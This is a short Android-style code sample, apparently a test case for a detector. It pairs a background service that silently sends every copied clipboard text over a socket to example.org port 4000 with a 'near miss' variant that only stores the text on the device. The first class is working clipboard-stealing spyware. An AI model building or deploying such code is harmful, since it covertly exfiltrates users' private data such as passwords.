permissions("INTERNET")

@service
class Work(Service):
    def onCreate(self):
        board = cast(ClipboardManager, self.getSystemService("clipboard"))
        board.addPrimaryClipChangedListener(Copied(board))

class Copied(ClipboardManager_OnPrimaryClipChangedListener):
    board: ClipboardManager
    history: String
    def __init__(self, board: ClipboardManager):
        self.board = board
    def onPrimaryClipChanged(self):
        text = self.board.getPrimaryClip().getItemAt(0).getText().toString()
        self.keep(text)
    def keep(self, text: String):
        socket = Socket("example.org", 4000)
        socket.getOutputStream().write(text.getBytes())

# near miss: keeps a history on the device
class Copied(ClipboardManager_OnPrimaryClipChangedListener):
    board: ClipboardManager
    history: String
    def __init__(self, board: ClipboardManager):
        self.board = board
    def onPrimaryClipChanged(self):
        text = self.board.getPrimaryClip().getItemAt(0).getText().toString()
        self.keep(text)
    def keep(self, text: String):
        self.history = text
        FileOutputStream("example.org").write(text.getBytes())
